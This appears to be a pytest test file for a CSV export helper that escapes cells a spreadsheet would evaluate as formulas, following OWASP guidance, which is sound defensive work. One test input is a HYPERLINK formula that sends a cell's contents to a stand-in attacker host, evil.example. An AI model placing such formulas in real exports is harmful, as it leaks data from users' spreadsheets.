"""portal.lib.csv: cells a spreadsheet would run as formulas are written as text (OWASP)."""

import csv
import io

import pytest

from portal.lib.csv import csv_safe, csv_safe_row, writer


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Trade waste, March 2026", "Trade waste, March 2026"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_csv_safe(value, written):
    assert csv_safe(value) == written


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting():
    out = io.StringIO()
    safe = writer(out)
    safe.writerow(["=1+1", "plain, with a comma", 3])
    safe.writerows([["@x"], ["-y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "plain, with a comma", "3"],
        ["'@x"],
        ["'-y"],
    ]
    assert csv_safe_row(["=a", "b"]) == ["'=a", "b"]
